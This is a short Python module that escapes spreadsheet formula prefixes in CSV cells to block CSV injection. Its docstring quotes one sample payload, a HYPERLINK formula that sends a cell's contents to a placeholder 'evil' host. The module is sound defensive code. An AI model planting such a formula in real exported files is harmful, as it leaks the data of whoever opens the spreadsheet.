"""Text written to a CSV file that a spreadsheet will not run as a formula.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before looking) is read by Excel, LibreOffice and
Sheets as a formula: an SMS saying ``=HYPERLINK("http://evil/"&A1, "click")``
would run in the owner's spreadsheet (CSV injection). Such a cell gets a
leading apostrophe, which spreadsheets show as text and hide.
"""

from __future__ import annotations

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows instead of evaluating."""
    return "'" + text if text.startswith(_FORMULA_STARTS) else text
